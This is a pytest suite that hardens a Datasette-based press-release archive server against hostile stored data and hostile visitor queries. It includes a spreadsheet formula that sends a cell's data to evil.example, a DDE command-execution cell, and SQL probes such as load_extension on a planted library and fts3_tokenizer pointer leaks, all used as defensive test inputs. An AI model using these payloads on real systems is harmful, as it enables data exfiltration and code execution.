"""Hostile data and hostile queries against the served archive (issue 13, serving side).

The hostile archive is the search fixture archive with text written straight
into SQLite, as an old archive (stored before text was cleaned at the door)
or a hostile site could have left it: control characters in titles, bodies,
names and evidence, bytes that are no UTF-8, and cells a spreadsheet would
run as formulas.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import httpx
import pytest
from click.testing import CliRunner
from datasette.app import Datasette
from search_archive import build_archive

from scraper.cli import cli
from scraper.serve import app as serve_app
from scraper.serve.app import make_datasette
from scraper.serve.safety import (
    CONTENT_SECURITY_POLICY,
    ResultTooBig,
    harden_connection,
    own_queries,
    sql_allowed,
    xml_safe,
)
from scraper.serve.spreadsheet import CsvNeutraliser, spreadsheet_safe

ROOT = Path(__file__).resolve().parent.parent
ATOM = "{http://www.w3.org/2005/Atom}"

CONTROL = "\x01\x02\x08\x1b\x7f"
HOSTILE_TITLE = f"Medborgarlöfte{CONTROL} undertecknat\x0b\x0c\ufffe"
CLEAN_TITLE = "Medborgarlöfte undertecknat"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1;"Läs mer")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "archive.db"
    build_archive(path, today=date.today())
    conn = sqlite3.connect(path)
    with conn:
        seed = "https://www.vastervik.se/press/medborgarlofte/"
        # A lone surrogate as SQLite may hold it (CESU-8 bytes, no valid UTF-8).
        conn.execute(
            "update releases set title = ?, body = ? || cast(x'eda080' as text) || ? where url = ?",
            [HOSTILE_TITLE, "Första\x01 stycket.", "\n\nAndra\x1b stycket.", seed],
        )
        conn.execute("update sources set name = 'Västerviks\x1b kommun' where id = 'vastervik'")
        conn.execute("update events set evidence = ?", ["HTTP\x00 404\x07"])
        conn.execute(
            "update releases set title = ?, lead = '+46 70 123 45 67' where url = ?",
            [FORMULA_TITLE, "https://www.vastervik.se/press/nya-skolan-gamleby/"],
        )
    conn.close()
    return path


@pytest.fixture
def ds(hostile: Path) -> Datasette:
    return make_datasette(hostile)


# --------------------------------------------------------------------------
# Feeds are always XML


def parse_feed(body: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(body)  # a strict XML parser: any bad character fails


@pytest.mark.parametrize(
    "path",
    [
        "/archive/municipality.atom?source=vastervik",
        "/archive/search.atom?q=medborgarlöfte",
        "/archive/search.atom?q=%01%1Bmedborgarl%C3%B6fte%7F",
        "/archive/latest.atom",
        "/archive/changes.atom",
        "/archive.atom?sql=select+url+as+atom_id,+title+as+atom_title,"
        "+published+as+atom_updated,+body+as+atom_content,+char(1)+as+atom_author_name"
        "+from+releases",
        # Numbers and blobs where text is expected.
        "/archive.atom?sql=select+1+as+atom_id,+2+as+atom_title,+'2020-01-01'+as+atom_updated,"
        "+x'01ff'+as+atom_content,+3+as+atom_author_name,+4.5+as+atom_release_id",
    ],
)
async def test_feeds_are_well_formed_xml_with_control_characters_stored(
    ds: Datasette, path: str
) -> None:
    response = await ds.client.get(path)
    assert response.status_code == 200, response.text
    feed = parse_feed(response.content)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", response.content.decode("utf-8"))
    assert feed.tag == f"{ATOM}feed"


async def test_feed_entries_keep_the_text_around_control_characters(ds: Datasette) -> None:
    response = await ds.client.get("/archive/municipality.atom?source=vastervik")
    feed = parse_feed(response.content)
    titles = [e.findtext(f"{ATOM}title") for e in feed.iter(f"{ATOM}entry")]
    assert CLEAN_TITLE in titles
    authors = {e.findtext(f"{ATOM}author/{ATOM}name") for e in feed.iter(f"{ATOM}entry")}
    assert authors == {"Västerviks kommun"}
    search = parse_feed((await ds.client.get("/archive/search.atom?q=%01medborgarlöfte")).content)
    assert search.findtext(f"{ATOM}title").endswith("(q: medborgarlöfte)")


def test_xml_safe_drops_what_xml_cannot_hold() -> None:
    assert xml_safe(f"a{CONTROL}b\ud800c\udfffd\ufffe\uffffe\x85f") == "abcdef"
    assert xml_safe("tab\tnewline\nreturn\r åäö – €") == "tab\tnewline\nreturn\r åäö – €"


# --------------------------------------------------------------------------
# Visitors' own SQL: off when asked, bounded when on


async def test_with_sql_off_only_canned_queries_tables_and_feeds_answer(hostile: Path) -> None:
    ds = make_datasette(hostile, allow_sql=False)
    assert (await ds.client.get("/archive.json", params={"sql": "select 1"})).status_code == 403
    where = await ds.client.get("/archive/releases.json", params={"_where": "1 = 1"})
    assert where.status_code == 403
    search = await ds.client.get("/archive/search.json?q=skolor&_shape=objects")
    assert search.status_code == 200
    assert search.json()["rows"][0]["title"].startswith("Snöoväder")
    box = await ds.client.get("/archive/releases.json?_search=skolor&_shape=objects")
    assert any(r["title"].startswith("Snöoväder") for r in box.json()["rows"])
    feed = await ds.client.get("/archive/municipality.atom?source=ekby")
    assert feed.status_code == 200 and parse_feed(feed.content)
    assert 'name="sql"' not in (await ds.client.get("/archive")).text


@pytest.mark.parametrize(
    ("host", "flag", "allowed"),
    [
        ("127.0.0.1", None, True),
        ("127.0.0.2", None, True),
        ("::1", None, True),
        ("[::1]", None, True),
        ("localhost", None, True),
        ("0.0.0.0", None, False),
        ("::", None, False),
        ("192.168.1.10", None, False),
        ("arkiv.example.org", None, False),
        ("0.0.0.0", True, True),
        ("127.0.0.1", False, False),
    ],
)
def test_sql_is_on_by_default_only_on_a_loopback_address(
    host: str, flag: bool | None, allowed: bool
) -> None:
    assert sql_allowed(host, flag) is allowed


@pytest.mark.parametrize(
    ("args", "allowed"),
    [
        ([], True),
        (["--host", "0.0.0.0"], False),
        (["--host", "0.0.0.0", "--sql"], True),
        (["--no-sql"], False),
    ],
)
def test_scraper_serve_chooses_sql_by_address_or_flag(
    hostile: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], allowed: bool
) -> None:
    served: dict[str, object] = {}
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))  # never bind 0.0.0.0 in a test
    monkeypatch.setattr(serve_app, "listen", lambda host, port: sock)
    monkeypatch.setattr(serve_app, "serve", lambda path, **kwargs: served.update(kwargs))
    try:
        result = CliRunner().invoke(cli, ["serve", "--db", str(hostile), *args])
    finally:
        sock.close()
    assert result.exit_code == 0, result.output
    assert served["allow_sql"] is allowed
    assert ("Arbitrary SQL is off" in result.output) is not allowed


def _rows(n: int) -> str:
    return f"with recursive n(i) as (select 1 union all select i + 1 from n limit {n}) "


@pytest.mark.parametrize(
    ("sql", "error"),
    [
        # The audit's query, smaller: one value over the per-value limit.
        ("select randomblob(50000000)", "string or blob too big"),
        ("select length(randomblob(50000000))", "string or blob too big"),
        # Values under the limit, over the per-query budget together.
        (_rows(40) + "select randomblob(1000000) from n", "result too big"),
        # A row of many columns.
        ("select " + ", ".join(["1"] * 65), "too many columns"),
    ],
)
async def test_sql_results_are_bounded(ds: Datasette, sql: str, error: str) -> None:
    response = await ds.client.get("/archive.json", params={"sql": sql})
    assert response.status_code == 400
    assert error in response.json()["error"]


async def test_big_legitimate_pages_still_answer(ds: Datasette) -> None:
    releases = await ds.client.get("/archive/releases.json?_size=max")
    assert releases.status_code == 200 and releases.json()["rows"]
    budget = await ds.client.get(
        "/archive.json", params={"sql": _rows(20) + "select randomblob(1000000) from n"}
    )
    assert budget.status_code == 200 and len(budget.json()["rows"]) == 20


def test_own_queries_read_outside_the_budget_and_give_it_back() -> None:
    conn = sqlite3.connect(":memory:")
    harden_connection(conn)
    over = _rows(200) + "select i, randomblob(200000) from n"  # 40 MB together
    with own_queries(conn):
        rows = conn.execute(over).fetchall()
    assert len(rows) == 200 and type(rows[0]) is tuple
    with pytest.raises(ResultTooBig):
        conn.execute(over).fetchall()
    with pytest.raises(ZeroDivisionError), own_queries(conn):
        raise ZeroDivisionError
    assert type(conn.execute("select 1").fetchone()) is sqlite3.Row
    conn.close()


async def test_a_table_page_over_the_budget_is_a_clear_400(hostile: Path, tmp_path: Path) -> None:
    path = tmp_path / "archive.db"
    shutil.copy(hostile, path)
    with sqlite3.connect(path) as conn:  # raw pages that do not compress (1.3 MB base64 each)
        conn.execute(
            _rows(30) + "insert into bodies (hash, size, compression, data) "
            "select 'h' || i, 1000000, 'zstd', randomblob(1000000) from n"
        )
    ds = make_datasette(path)
    whole = await ds.client.get("/archive/bodies.json")
    assert whole.status_code == 400
    assert whole.json()["error"].startswith("result too big")
    assert (await ds.client.get("/archive/bodies.json?_size=5")).status_code == 200


# --------------------------------------------------------------------------
# No pointers, no code, no paths


@pytest.mark.parametrize(
    "sql",
    [
        "select hex(fts3_tokenizer('simple'))",
        "select fts3_tokenizer('evil', x'4141414141414141')",
        "select fts5(null)",
        "select load_extension('/tmp/evil.so')",
        "select rtreenode(2, x'000000')",
        "select sql from sqlite_stmt",
        "attach database ':memory:' as other",
        "select * from pragma_database_list where file like '/%'",
    ],
)
async def test_dangerous_sql_is_refused(ds: Datasette, sql: str) -> None:
    response = await ds.client.get("/archive.json", params={"sql": sql, "_shape": "objects"})
    assert response.status_code == 400 or response.json()["rows"] == [], response.text


async def test_the_database_list_shows_no_file(ds: Datasette) -> None:
    response = await ds.client.get(
        "/archive.json", params={"sql": "select * from pragma_database_list", "_shape": "objects"}
    )
    assert response.json()["rows"] == [{"seq": 0, "name": "main", "file": None}]


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/.json",
        "/-/databases",
        "/-/databases.json",
        "/-/threads",
        "/-/threads.json",
        "/-/metadata",
        "/-/versions.json",
        "/-/plugins.json",
        "/-/settings.json",
        "/archive",
        "/archive.json",
        "/archive/releases",
        "/archive/releases/1",
        "/archive/nosuch",
        "/archive?sql=select+*+from+nosuch",
        "/archive?sql=select+*+from+pragma_database_list",
        "/archive.json?sql=select+file+from+pragma_database_list()",
        "/archive.csv?sql=select+*+from+pragma_database_list",
    ],
)
async def test_no_page_shows_an_absolute_path(ds: Datasette, hostile: Path, path: str) -> None:
    response = await ds.client.get(path)
    assert response.status_code in (200, 400, 404)
    assert str(hostile.parent) not in response.text
    assert str(ROOT) not in response.text


async def test_the_databases_page_names_the_file(ds: Datasette) -> None:
    found = (await ds.client.get("/-/databases.json")).json()
    assert [(d["name"], d["path"]) for d in found] == [("archive", "archive.db")]


# --------------------------------------------------------------------------
# CSV exports are spreadsheet-safe


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


QUERY_CELLS = (
    "select '=1+1' as a, '+SUM(A1)' as b, '-2+3' as c, '@cmd' as d, char(9) || 'tab' as e, "
    "char(13) || 'cr' as f, '-5' as g, '3.5' as h, 'ok' as i, 'x;=1+1' as j, "
    "'rad 1' || char(13, 10) || '=rad 2' as k, -7 as l"
)
QUERY_SAFE = [
    "'=1+1",
    "'+SUM(A1)",
    "'-2+3",
    "'@cmd",
    "'\ttab",
    "'\rcr",
    "-5",
    "3.5",
    "ok",
    "x;'=1+1",
    "rad 1\r\n=rad 2",
    "-7",
]


@pytest.mark.parametrize("extra", [{}, {"_dl": "1"}, {"_stream": "on"}])
async def test_query_csv_neutralises_formulas(ds: Datasette, extra: dict[str, str]) -> None:
    response = await ds.client.get("/archive.csv", params={"sql": QUERY_CELLS, **extra})
    assert response.status_code == 200
    assert read_csv(response.text) == [list("abcdefghijkl"), QUERY_SAFE]


@pytest.mark.parametrize("extra", ["", "?_stream=on", "?_dl=1&_stream=on"])
async def test_table_csv_neutralises_formulas(ds: Datasette, extra: str) -> None:
    response = await ds.client.get("/archive/releases.csv" + extra)
    assert response.status_code == 200
    rows = read_csv(response.text)
    header, body = rows[0], rows[1:]
    by_url = {row[header.index("url")]: row for row in body}
    school = by_url["https://www.vastervik.se/press/nya-skolan-gamleby/"]
    assert school[header.index("title")] == "'" + FORMULA_TITLE
    assert school[header.index("lead")] == "'+46 70 123 45 67"
    assert all(not cell.startswith(("=", "+", "@")) for row in body for cell in row)


async def test_canned_query_csv_neutralises_formulas(ds: Datasette) -> None:
    response = await ds.client.get("/archive/search.csv?q=gamleby")
    rows = read_csv(response.text)
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert titles == ["'" + FORMULA_TITLE]


async def test_json_stays_raw(ds: Datasette) -> None:
    response = await ds.client.get("/archive/releases.json?_shape=objects&title__startswith=%3D")
    assert [r["title"] for r in response.json()["rows"]] == [FORMULA_TITLE]


def test_spreadsheet_safe_cells() -> None:
    assert spreadsheet_safe("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert spreadsheet_safe("Skola; -2 grader;=1+1") == "Skola; -2 grader;'=1+1"
    assert spreadsheet_safe("-1.5e3") == "-1.5e3"
    assert spreadsheet_safe("- Vi får inte") == "'- Vi får inte"
    assert spreadsheet_safe("Vanlig rubrik") == "Vanlig rubrik"


def test_csv_neutraliser_gives_the_same_answer_for_any_chunking() -> None:
    source = (
        'id,title\r\n1,"=HYPERLINK(""http://x/"")"\r\n2,"rad\r\n=två"\r\n'
        "3,@åäö\r\n4,-5\r\n5,Östra\r\n"
    ).encode()
    expected = (
        'id,title\r\n1,"\'=HYPERLINK(""http://x/"")"\r\n2,"rad\r\n=två"\r\n'
        "3,'@åäö\r\n4,-5\r\n5,Östra\r\n"
    ).encode()
    for size in range(1, len(source) + 1):
        neutraliser = CsvNeutraliser()
        chunks = [source[i : i + size] for i in range(0, len(source), size)]
        out = b"".join(neutraliser.feed(chunk) for chunk in chunks) + neutraliser.finish()
        assert out == expected, size


# --------------------------------------------------------------------------
# Headers on every response

HEADERS = {
    "content-security-policy": CONTENT_SECURITY_POLICY,
    "x-content-type-options": "nosniff",
    "referrer-policy": "strict-origin-when-cross-origin",
    "x-frame-options": "DENY",
}


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/", 200),
        ("GET", "/archive", 200),
        ("GET", "/archive/releases", 200),
        ("GET", "/archive/releases.json", 200),
        ("GET", "/archive/releases.csv", 200),
        ("GET", "/archive/search.atom?q=skola", 200),
        ("GET", "/-/static/app.css", 200),
        ("GET", "/scraper-static/scraper.css", 200),
        ("GET", "/archive/nosuch", 404),
        ("POST", "/archive/search", 405),
    ],
)
async def test_every_response_has_the_security_headers(
    ds: Datasette, method: str, path: str, status: int
) -> None:
    response = await (ds.client.post if method == "POST" else ds.client.get)(path)
    assert response.status_code == status
    assert {name: response.headers.get(name) for name in HEADERS} == HEADERS


def test_the_policy_allows_only_this_site_for_scripts() -> None:
    policy = dict(part.split(" ", 1) for part in CONTENT_SECURITY_POLICY.split("; "))
    assert policy["default-src"] == "'self'"
    assert policy["script-src"].split() == ["'self'", "'unsafe-inline'"]
    assert policy["object-src"] == "'none'" and policy["frame-ancestors"] == "'none'"


# --------------------------------------------------------------------------
# A real `scraper serve --no-sql`


@pytest.fixture
def served_without_sql(hostile: Path) -> Iterator[str]:
    process = subprocess.Popen(
        [sys.executable, "-m", "scraper.cli", "serve", "--db", str(hostile), "--port", "0"]
        + ["--no-sql"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    lines: list[str] = []
    reader = threading.Thread(target=lambda: lines.extend(process.stdout or []), daemon=True)
    try:
        assert process.stdout is not None
        first = process.stdout.readline()
        match = re.search(r"at (http://127\.0\.0\.1:\d+/) ", first)
        assert match, first
        reader.start()
        yield match[1]
    finally:
        process.terminate()
        process.wait(timeout=30)
        reader.join(timeout=10)


def test_a_real_server_without_sql_serves_the_archive_safely(served_without_sql: str) -> None:
    url = served_without_sql
    assert httpx.get(url + "archive.json", params={"sql": "select 1"}).status_code == 403
    search = httpx.get(url + "archive/search.json", params={"q": "skolor", "_shape": "objects"})
    assert search.status_code == 200 and search.json()["rows"]
    for response in (search, httpx.post(url + "archive/search", data={"q": "x"})):
        assert {name: response.headers.get(name) for name in HEADERS} == HEADERS
